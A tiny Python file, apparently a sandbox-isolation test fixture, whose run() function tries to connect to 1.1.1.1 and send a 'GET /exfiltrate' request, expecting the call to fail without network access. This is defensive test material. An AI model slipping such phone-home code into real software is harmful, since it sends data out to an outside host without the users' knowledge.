import socket


def run():
    # Phones home; the sandbox's network namespace has only lo, so this raises.
    with socket.create_connection(("1.1.1.1", 80), timeout=2) as s:
        s.sendall(b"GET /exfiltrate HTTP/1.0\r\n\r\n")
    return (1.0, -2.0)
